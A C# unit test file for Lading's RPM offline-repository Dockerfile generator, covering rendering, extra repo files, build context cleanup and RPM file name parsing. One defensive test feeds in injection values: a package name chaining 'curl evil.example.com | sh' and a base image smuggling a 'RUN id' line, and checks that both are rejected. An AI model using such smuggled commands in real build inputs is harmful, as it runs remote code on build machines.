using Lading.OsRepos;
using Lading.Tests.Fixtures;

namespace Lading.Tests.OsRepos;

public sealed class RpmRepoDockerfileTests
{
    [Fact]
    public void The_dockerfile_downloads_the_closure_for_an_empty_machine_and_keeps_only_the_repository()
    {
        var packages = OsPackageList.Parse("conntrack-tools\nsocat=1.7.4.1-5.el9\n", "os/rocky-9.list", "rocky", "9").Packages;

        var dockerfile = RpmRepoDockerfile.Render(new OsTarget("rocky", "9", "amd64"), packages);

        Assert.Equal(
            """
            # The offline rpm repository of rocky-9 (amd64); written by Lading from the package list, do not edit.
            FROM docker.io/rockylinux/rockylinux:9 AS download
            RUN dnf install --assumeyes dnf-plugins-core createrepo_c && dnf clean all
            WORKDIR /repo/Packages
            RUN dnf download --resolve --alldeps --arch=x86_64,noarch --destdir /repo/Packages \
                  conntrack-tools \
                  socat-1.7.4.1-5.el9
            RUN createrepo_c /repo
            FROM scratch
            COPY --from=download /repo/ /

            """.Replace("\r", string.Empty),
            dockerfile);
        Assert.Null(RpmRepoDockerfile.RenderRepoFile(new OsTarget("rocky", "9", "amd64")));
    }

    [Fact]
    public void Extra_repositories_are_copied_in_as_a_repo_file_before_resolving()
    {
        var target = new OsTarget("centos", "stream9", "arm64")
        {
            BaseImage = "registry.local/library/centos:stream9",
            RpmRepositories =
            [
                new RpmRepository("kubernetes", new Uri("https://pkgs.k8s.io/core:/stable:/v1.30/rpm/"), new Uri("https://pkgs.k8s.io/core:/stable:/v1.30/rpm/repodata/repomd.xml.key")),
                new RpmRepository("local-extras", new Uri("http://127.0.0.1:8080/extras/")),
            ],
        };

        var dockerfile = RpmRepoDockerfile.Render(target, [new OsPackage("kubelet", null, "os/centos-stream9.list:1")]);

        Assert.StartsWith(
            "# The offline rpm repository of centos-stream9 (arm64); written by Lading from the package list, do not edit.\n" +
            "FROM registry.local/library/centos:stream9 AS download\n" +
            "COPY lading.repo /etc/yum.repos.d/lading.repo\n",
            dockerfile);
        Assert.Contains("--arch=aarch64,noarch", dockerfile);
        Assert.Equal(
            "[kubernetes]\nname=kubernetes\nbaseurl=https://pkgs.k8s.io/core:/stable:/v1.30/rpm/\nenabled=1\ngpgcheck=1\ngpgkey=https://pkgs.k8s.io/core:/stable:/v1.30/rpm/repodata/repomd.xml.key\n\n" +
            "[local-extras]\nname=local-extras\nbaseurl=http://127.0.0.1:8080/extras/\nenabled=1\ngpgcheck=0\n\n",
            RpmRepoDockerfile.RenderRepoFile(target));
    }

    [Fact]
    public void The_build_context_holds_the_dockerfile_and_drops_a_repo_file_no_longer_wanted()
    {
        using var folder = new TempFolder();
        var withRepo = new OsTarget("rocky", "9", "amd64") { RpmRepositories = [new RpmRepository("epel", new Uri("https://dl.fedoraproject.org/pub/epel/9/Everything/x86_64/"))] };
        RpmRepoBuilder.WriteContext(withRepo, [new OsPackage("socat", null, "x")], folder.Path);

        var context = RpmRepoBuilder.WriteContext(new OsTarget("rocky", "9", "amd64"), [new OsPackage("socat", null, "x")], folder.Path);

        Assert.Equal(folder.Combine("rpm", "rocky-9", "amd64"), context);
        Assert.Equal(["Dockerfile"], Directory.GetFiles(context).Select(Path.GetFileName));
    }

    [Fact]
    public void Nothing_unsafe_reaches_the_dockerfile()
    {
        var target = new OsTarget("rocky", "9", "amd64");

        var names = Assert.Throws<OsRepoException>(() => RpmRepoDockerfile.Render(target, [new OsPackage("socat && curl evil.example.com | sh", null, "os/rocky-9.list:2")]));
        var image = Assert.Throws<OsRepoException>(() => RpmRepoDockerfile.Render(target with { BaseImage = "rockylinux:9\nRUN id" }, [new OsPackage("socat", null, "x")]));
        var noDefault = Assert.Throws<OsRepoException>(() => RpmRepoDockerfile.Render(new OsTarget("kylin", "v10", "amd64"), [new OsPackage("socat", null, "x")]));

        Assert.Equal("os/rocky-9.list:2", Assert.Single(names.Problems).Where);
        Assert.Contains("is not an image reference", image.Message);
        Assert.Equal("kylin-v10 (amd64): there is no default image for kylin: set the target's base image", noDefault.Message);
    }

    [Theory]
    [InlineData("socat-1.7.4.1-5.el9.x86_64.rpm", "socat", "1.7.4.1-5.el9", "x86_64")]
    [InlineData("python3-dnf-plugin-versionlock-4.3.0-13.el9.noarch.rpm", "python3-dnf-plugin-versionlock", "4.3.0-13.el9", "noarch")]
    public void Rpm_file_names_give_name_version_and_architecture(string file, string name, string version, string architecture)
    {
        Assert.Equal(new OsRepoPackage(name, version, architecture, "Packages/" + file), RpmRepoBuilder.Describe(file));
    }
}
